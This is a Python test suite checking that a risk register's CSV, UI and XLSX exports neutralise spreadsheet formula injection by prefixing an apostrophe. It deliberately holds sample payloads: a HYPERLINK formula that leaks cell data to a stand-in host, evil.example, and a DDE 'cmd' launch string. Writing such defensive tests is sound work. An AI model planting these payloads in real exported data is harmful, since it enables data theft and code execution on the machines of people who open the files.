"""CSV exports never hand a spreadsheet a formula; the value stays readable.

Every CSV export: a register's (API and UI) and the audit trail's (API, UI).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from tests.api.conftest import RISK, Api
from usecases.formats import spreadsheet_safe

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cause": "+1+cmd|' /C calc'!A0",
    "event": "-2+3",
    "effect": "@SUM(A1:A9)",
    "owner": "\t=1+1",
    "actions": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_cells_are_neutralised_the_owasp_way() -> None:
    for text in HOSTILE.values():
        assert spreadsheet_safe(text) == "'" + text
    for text in ("-1500.50", "+3", "-7", "plain", "", "a=b", " =x"):
        assert spreadsheet_safe(text) == text


def rows_of(text: str) -> list[list[str]]:
    """Every line must quote every cell; the parsed rows."""
    for line in text.split("\r\n"):  # the writer's line end; a cell's CR stays
        if line:
            assert line.startswith('"') and line.endswith('"'), line
    return list(csv.reader(io.StringIO(text)))


def assert_safe(
    table: list[list[str]], shown: tuple[str, ...] = tuple(HOSTILE)
) -> None:
    """No cell starts a formula; each hostile value shown is there, apostrophed."""
    cells = [cell for row in table for cell in row]
    for cell in cells:
        assert not cell.startswith(TRIGGERS) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    for text in (HOSTILE[name] for name in shown):
        assert "'" + text in cells


def hostile_risk(api: Api) -> tuple[str, str]:
    project_id = api.project()
    body = RISK | {k: v for k, v in HOSTILE.items() if k in RISK}
    written = api.post(f"/projects/{project_id}/risks", body).json
    api.post(
        f"/risks/{written['id']}/responses",
        {"response": "reduce", "actions": HOSTILE["actions"], "actionee": "A"},
    )
    assert api.services.views.wait_for(api.head(), 30)
    return project_id, written["id"]


def test_register_and_audit_csv_exports_are_safe(demo: Api) -> None:
    project_id, risk_id = hostile_risk(demo)
    register = demo.get(f"/projects/{project_id}/risks.csv", role="pmo-head")
    assert register.status_code == 200
    assert_safe(rows_of(register.text))
    audit = demo.get(
        "/audit/events.csv", query_string={"entity_id": risk_id}, role="auditor"
    )
    assert audit.status_code == 200
    table = rows_of(audit.text)
    cells = [cell for row in table for cell in row]
    # The audit row keeps the event's fields as one JSON cell; the actor and
    # reason columns are the ones a formula could start.
    assert all(not c.startswith(TRIGGERS) for c in cells)


def test_the_ui_exports_are_safe(demo: Api) -> None:
    from tests.ui.conftest import CSRF

    project_id, risk_id = hostile_risk(demo)
    client = demo.client
    csrf = CSRF.search(client.get("/ui/login").text)
    assert csrf is not None
    client.post(
        "/ui/login",
        data={"token": demo.tokens["pmo-head"], "csrf_token": csrf.group(1)},
    )
    register = client.get(f"/ui/projects/{project_id}/risks.csv")
    assert register.status_code == 200
    assert_safe(rows_of(register.text), ("title", "owner"))
    audit = client.get("/ui/audit.csv", query_string={"entity": risk_id})
    assert audit.status_code == 200
    assert all(not c.startswith(TRIGGERS) for r in rows_of(audit.text) for c in r)


def test_xlsx_keeps_the_text_as_inline_strings_never_formulas(demo: Api) -> None:
    project_id, _ = hostile_risk(demo)
    response = demo.get(f"/projects/{project_id}/risks.xlsx", role="pmo-head")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 't="inlineStr"' in sheet
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1" in sheet
